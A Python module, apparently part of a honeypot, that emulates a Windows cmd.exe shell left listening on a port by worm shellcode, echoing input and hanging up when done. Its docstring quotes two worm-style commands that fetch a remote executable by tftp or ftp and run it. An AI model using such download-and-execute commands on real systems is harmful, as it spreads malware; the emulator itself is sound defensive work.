r"""A cmd.exe that stands open at a port, as shellcodes for Windows leave it: Blaster's at 4444, Metasploit's.

It greets, shows its prompt, and repeats each line before it obeys it, for its input and output are pipes. So a worm may
bring its file as its author tried it out: `tftp -i HOST GET x.exe & x.exe`, `echo open HOST > o & ftp -s:o`.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import ClassVar

from eudaemon.protocols._base import Answered, HangUp, Order, Send, Visit, Woken
from eudaemon.protocols._command_prompt import PipedPrompt
from eudaemon.protocols._open_shell import OpenShell
from eudaemon.protocols._services import Service
from eudaemon.wire import LineReader
from eudaemon.world.shell.limits import LINE_BYTES_MAX


class Prompted(Service):
    """cmd.exe at the end of a connection."""

    __slots__ = ("_leaves", "_lines", "prompt")

    def __init__(self, visit: Visit) -> None:
        self.prompt = PipedPrompt(visit)
        self._lines = LineReader(LINE_BYTES_MAX)
        self._leaves = False

    def opened(self, at_s: float) -> Iterator[Order]:  # noqa: ARG002
        """See `Service`."""
        yield Send(self.prompt.greeting + self.prompt.prompt)

    def received(self, data: bytes, at_s: float) -> Iterator[Order]:
        """See `Service`."""
        for line in self._lines.feed(data):
            if not self.prompt.over:
                yield from self.prompt.enter(line, at_s)
        yield from self._leave()

    def told(self, occasion: Answered | Woken) -> Iterator[Order]:
        """See `Service`."""
        yield from self.prompt.go_on(occasion)
        yield from self._leave()

    def closed(self, at_s: float) -> Iterator[Order]:
        """See `Service`. A last line without an end is a line: some worms close at once."""
        last, self._lines = self._lines.unfinished(), LineReader(LINE_BYTES_MAX)
        if last and not self.prompt.over:
            yield from self.prompt.enter(last, at_s)
        self._leaves = True
        yield from self._leave()

    def _leave(self) -> Iterator[Order]:
        if self.prompt.over or (self._leaves and not self.prompt.busy):
            yield HangUp()


class Cmd(OpenShell):
    """One connection."""

    name: ClassVar[str] = "cmd"
    speaks_first: ClassVar[bool] = True

    __slots__ = ()
    _service: Prompted

    def service(self) -> Service:
        """See `OpenShell`."""
        return Prompted(self.visit)

    def left(self) -> Iterator[Order]:
        """See `OpenShell`."""
        yield from self._service.prompt.ended()
